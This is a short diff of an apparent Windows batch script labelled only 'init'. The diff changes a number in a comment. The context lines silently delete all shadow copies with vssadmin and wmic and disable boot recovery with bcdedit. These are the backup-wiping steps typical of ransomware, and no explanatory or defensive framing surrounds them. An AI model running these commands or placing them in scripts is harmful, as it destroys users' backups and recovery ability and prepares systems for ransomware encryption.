@@ -1,4 +1,4 @@
-REM init 1894 v0
+REM init 3904 v0
 vssadmin delete shadows /all /quiet
 wmic shadowcopy delete
 bcdedit /set {default} recoveryenabled no
